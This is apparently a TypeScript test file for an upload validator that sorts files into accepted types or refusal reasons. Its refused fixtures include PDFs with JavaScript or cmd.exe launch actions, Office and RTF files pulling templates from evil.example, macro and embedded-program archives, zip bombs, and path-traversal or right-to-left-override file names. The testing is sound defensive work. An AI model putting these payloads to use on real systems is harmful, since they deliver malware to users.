import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { kindOfName } from '#domain/uploads/accepted-files.ts';
import { PASSWORD_NEEDED } from '#tests/uploads/encrypted-pdfs.ts';
import {
  compound,
  GIF,
  HEIC,
  JPEG,
  office,
  officeParts,
  PAGES,
  PNG,
  pdf,
  RTF,
  TEXT,
  WEBP,
  wordStream,
  workbookStream,
} from '#tests/uploads/files.ts';
import { withRelation } from '#tests/uploads/letters.ts';
import { writeZip } from '#tests/uploads/zip.ts';
import { plainName } from './file-name.ts';
import { judgeFile } from './judge-file.ts';

/** Splits into parts of equal length, as a connection might. */
async function* inParts(bytes: Buffer, length: number) {
  for (let at = 0; at < bytes.length; at += length) yield bytes.subarray(at, at + length);
}

async function judge(name: string, bytes: Buffer, length = 65_536) {
  const kind = kindOfName(name);
  if (kind === undefined) return 'type';
  const judged = await judgeFile(kind, inParts(bytes, length));
  return judged.ok ? judged.contentType : judged.reason;
}

const MACHINE = 'application/vnd.openxmlformats-officedocument';
const DOC = compound('1Table', ['WordDocument', wordStream()], '\x05SummaryInformation');
const XLS = compound(['Workbook', workbookStream()]);

const ACCEPTED: readonly (readonly [string, Buffer, string])[] = [
  ['photo.jpg', JPEG, 'image/jpeg'],
  ['photo.JPEG', JPEG, 'image/jpeg'],
  ['scan.png', PNG, 'image/png'],
  ['image.gif', GIF, 'image/gif'],
  ['image.webp', WEBP, 'image/webp'],
  ['IMG_0001.HEIC', HEIC, 'image/heic'],
  ['renamed.jpg', WEBP, 'image/webp'], // an image nevertheless
  ['lettre.txt', TEXT, 'text/plain'],
  ['latin.txt', Buffer.from('d\xe9j\xe0', 'latin1'), 'text/plain'],
  ['wide.txt', Buffer.from('\ufeffdéjà', 'utf16le'), 'text/plain'],
  ['fiche.pdf', pdf(), 'application/pdf'],
  ['fiche.pdf', pdf('/OpenAction[3 0 R/Fit]/Encryption(no)'), 'application/pdf'],
  ['lettre.rtf', RTF, 'application/rtf'],
  ['lettre.doc', DOC, 'application/msword'],
  ['budget.xls', XLS, 'application/vnd.ms-excel'],
  ['lettre.docx', office('docx'), `${MACHINE}.wordprocessingml.document`],
  [
    'modele.docx',
    withTemplate('file:///C:\\Users\\a\\Normal.dotm'),
    `${MACHINE}.wordprocessingml.document`,
  ],
  ['budget.xlsx', office('xlsx'), `${MACHINE}.spreadsheetml.sheet`],
  ['plan.pptx', office('pptx'), `${MACHINE}.presentationml.presentation`],
  ['lettre.pages', PAGES, 'application/vnd.apple.pages'],
];

/** A letter that was created from a template. */
function withTemplate(target: string): Buffer {
  return withRelation('attachedTemplate', target);
}

const REFUSED: readonly (readonly [string, string, Buffer, string])[] = [
  ['nothing at all', 'vide.pdf', Buffer.alloc(0), 'empty'],
  ['a drawing that may run scripts', 'logo.svg', Buffer.from('<svg/>'), 'type'],
  ['a document with macros, by its name', 'offre.docm', office('docx'), 'type'],
  ['an archive', 'dossier.zip', office('docx'), 'type'],
  ['no ending', 'passwd', TEXT, 'type'],
  ['two endings', 'fiche.pdf.exe', pdf(), 'type'],
  ['a program as a picture', 'photo.jpg', Buffer.from('MZ\x90\0\x03'), 'disguised'],
  ['a page as a picture', 'photo.png', Buffer.from('<html>'), 'disguised'],
  ['a PDF as a picture', 'photo.png', pdf(), 'disguised'],
  ['a picture as a PDF', 'fiche.pdf', PNG, 'disguised'],
  ['a program as text', 'lettre.txt', Buffer.from('MZ\x90\0\x03'), 'disguised'],
  ['a page as text', 'lettre.txt', Buffer.from('\ufeff  <!DOCTYPE html>'), 'disguised'],
  ['a script as text', 'lettre.txt', Buffer.from('#!/bin/sh\n'), 'disguised'],
  ['a PDF as text', 'lettre.txt', pdf(), 'disguised'],
  ['a sheet as a letter', 'lettre.docx', office('xlsx'), 'disguised'],
  ['any archive as a letter', 'lettre.docx', writeZip([{ name: 'a', content: 'a' }]), 'disguised'],
  ['any archive as Pages', 'lettre.pages', writeZip([{ name: 'a', content: 'a' }]), 'disguised'],
  ['an old sheet as a letter', 'lettre.doc', XLS, 'disguised'],
  ['an installer as a letter', 'lettre.doc', compound('Property', 'File'), 'disguised'],
  ['a PDF with a password', 'fiche.pdf', PASSWORD_NEEDED, 'protected'],
  [
    'a PDF with a script',
    'fiche.pdf',
    pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
    'active',
  ],
  [
    'its name written otherwise',
    'fiche.pdf',
    pdf('/OpenAction<</S/J#61vaScr#69pt/JS(1)>>'),
    'active',
  ],
  [
    'a PDF that starts a program',
    'fiche.pdf',
    pdf('/OpenAction<</S/Launch/F(cmd.exe)>>'),
    'active',
  ],
  [
    'a PDF that was cut off',
    'fiche.pdf',
    pdf('', 'x'.repeat(9_000)).subarray(0, 8_000),
    'unreadable',
  ],
  [
    'rich text with an object',
    'lettre.rtf',
    Buffer.from('{\\rtf1{\\object\\objdata 01}}'),
    'active',
  ],
  ['rich text that was cut off', 'lettre.rtf', RTF.subarray(0, 12), 'unreadable'],
  [
    'a letter whose template is fetched',
    'offre.docx',
    withTemplate('https://evil.example/a.dotm'),
    'macros',
  ],
  [
    'rich text whose template is fetched',
    'lettre.rtf',
    Buffer.from('{\\rtf1{\\*\\template https://evil.example/a.dot}}'),
    'macros',
  ],
  ['an old letter with macros', 'lettre.doc', compound('WordDocument', 'Macros', 'VBA'), 'macros'],
  ['an old sheet with macros', 'budget.xls', compound('Workbook', '_VBA_PROJECT_CUR'), 'macros'],
  ['an old letter that was cut off', 'lettre.doc', DOC.subarray(0, 300), 'unreadable'],
  [
    'a sheet with a password',
    'budget.xlsx',
    compound('EncryptionInfo', 'EncryptedPackage'),
    'protected',
  ],
  [
    'a letter with macros',
    'lettre.docx',
    writeZip([...officeParts('docx'), { name: 'word/vbaProject.bin', content: 'x' }]),
    'macros',
  ],
  [
    'macros under another name',
    'lettre.docx',
    writeZip([
      ...officeParts('docx', '<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
      { name: 'word/notes.bin', content: 'x' },
    ]),
    'macros',
  ],
  [
    'types written letter by letter',
    'lettre.docx',
    writeZip(
      officeParts('docx', '<Override ContentType="application/vnd.ms-office.vb&#97;Project"/>'),
    ),
    'unreadable',
  ],
  [
    'macros in a folder written as on Windows',
    'lettre.docx',
    writeZip([...officeParts('docx'), { name: 'word\\vbaProject.bin', content: 'x' }]),
    'macros',
  ],
  [
    'a sheet with the older macros',
    'budget.xlsx',
    writeZip([...officeParts('xlsx'), { name: 'xl/macrosheets/sheet1.xml', content: 'x' }]),
    'macros',
  ],
  [
    'a program inside',
    'lettre.docx',
    writeZip([...officeParts('docx'), { name: 'word/embeddings/a.exe', content: 'x' }]),
    'active',
  ],
  [
    'an entry with a password',
    'lettre.docx',
    writeZip([{ name: '[Content_Types].xml', content: 'x', flags: 1 }]),
    'protected',
  ],
  [
    'an entry that expands beyond measure',
    'lettre.docx',
    writeZip([
      ...officeParts('docx'),
      { name: 'word/a.xml', content: Buffer.alloc(8 * 1024 * 1024) },
    ]),
    'bomb',
  ],
  [
    'more entries than any document has',
    'lettre.docx',
    writeZip(Array.from({ length: 2_001 }, (_, n) => ({ name: `${n}`, content: '' }))),
    'bomb',
  ],
  [
    'an entry that the directory does not name',
    'lettre.docx',
    writeZip(officeParts('docx'), { leaveOut: '_rels/.rels' }),
    'unreadable',
  ],
  [
    'a directory that names another',
    'lettre.docx',
    writeZip([...officeParts('docx'), { name: 'a.xml', content: 'x' }], {
      directoryNames: ['', '', '', '', 'word/vbaProject.bin'],
    }),
    'unreadable',
  ],
  [
    'another archive behind',
    'lettre.docx',
    writeZip(officeParts('docx'), { behind: office('xlsx') }),
    'unreadable',
  ],
  [
    'a wrong sum',
    'lettre.docx',
    writeZip([...officeParts('docx'), { name: 'a', content: 'a', claimedCrc: 1 }]),
    'unreadable',
  ],
  ['an archive that was cut off', 'lettre.docx', office('docx').subarray(0, -30), 'unreadable'],
  ['an archive cut off in an entry', 'lettre.docx', office('docx').subarray(0, 90), 'unreadable'],
];

describe('a file', () => {
  it.each(ACCEPTED)('%s is accepted', async (name, bytes, contentType) => {
    expect(await judge(name, bytes)).toBe(contentType);
  });

  it.each(REFUSED)('with %s is refused', async (_, name, bytes, reason) => {
    expect(await judge(name, bytes)).toBe(reason);
  });

  it('is judged alike however it arrives', async () => {
    const files = [...ACCEPTED, ...REFUSED.map(([, ...file]) => file)].filter(
      ([, bytes]) => bytes.length < 20_000,
    );
    const cases = fc.asyncProperty(
      fc.constantFrom(...files),
      fc.integer({ min: 1, max: 700 }),
      async ([name, bytes, expected], length) => {
        expect(await judge(name, bytes, length)).toBe(expected);
      },
    );
    await fc.assert(cases, { numRuns: 150 });
  });

  it.each([
    ['fiche.pdf', pdf('/OpenAction[3 0 R/Fit]/Encryption(no)'), 'application/pdf'],
    ['lettre.rtf', Buffer.from('{\\rtf1 \\objectivity 1}'), 'application/rtf'],
    ['lettre.rtf', Buffer.from('{\\rtf1{\\object 01}}'), 'active'],
  ])('%s is judged alike byte by byte', async (name, bytes, expected) => {
    expect(await judge(name, bytes, 1)).toBe(expected);
  });

  it('is expanded no further than needed', async () => {
    const zeros = { name: 'word/a.xml', content: Buffer.alloc(60 * 1024 * 1024) };
    const bomb = writeZip([...officeParts('docx'), zeros]);
    let taken = 0;
    const bytes = (async function* () {
      for await (const part of inParts(bomb, 1_024)) {
        taken += part.length;
        yield part;
      }
    })();
    expect(await judgeFile('docx', bytes)).toEqual({ ok: false, reason: 'bomb' });
    expect(taken).toBeLessThan(bomb.length / 2);
  });
});

describe('a name', () => {
  it.each([
    ['C:\\fakepath\\fiche.pdf', 'fiche.pdf'],
    ['../../etc/fiche.pdf', 'fiche.pdf'],
    ['fiche\u202efdp.exe', 'fichefdp.exe'],
    ['a\r\nb".pdf', 'ab.pdf'],
    [`${'a'.repeat(300)}.pdf`, `${'a'.repeat(116)}.pdf`],
    [`${'a'.repeat(115)}😀😀.pdf`, `${'a'.repeat(115)}😀.pdf`], // never a lone surrogate
  ])('%j is kept as %s', (given, name) => {
    expect(plainName(given)).toBe(name);
  });
});
